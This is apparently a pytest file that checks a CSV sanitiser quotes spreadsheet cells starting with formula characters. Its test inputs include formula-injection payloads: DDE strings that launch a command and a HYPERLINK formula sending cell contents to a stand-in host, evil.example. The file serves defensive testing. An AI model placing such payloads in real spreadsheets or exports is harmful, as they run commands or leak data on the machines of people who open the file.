"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import pytest

from rightbrain.spreadsheet import safe_cell, safe_csv_text


@pytest.mark.parametrize(
    "hostile",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_starting_with_a_formula_character_is_quoted(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize(
    "plain", ["Reviews", "a=b", "", "-3", "+1.5e3", "-.5", 7, None]
)
def test_text_numbers_and_other_values_are_left_as_they_are(plain):
    assert safe_cell(plain) == plain


def test_a_table_is_rewritten_with_every_cell_safe():
    table = 'name,formula\n"Lake, dawn",=1+1\n@me,-4\n'
    assert safe_csv_text(table) == "name,formula\n\"Lake, dawn\",'=1+1\n'@me,-4\n"
